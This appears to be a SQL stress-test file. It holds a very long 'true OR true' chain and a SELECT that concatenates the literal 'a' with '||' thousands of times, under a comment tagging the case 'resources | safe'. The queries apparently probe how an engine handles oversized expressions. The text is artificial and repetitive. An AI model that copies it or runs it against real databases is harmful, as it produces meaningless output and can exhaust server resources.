true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true

-- resources | safe
SELECT 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 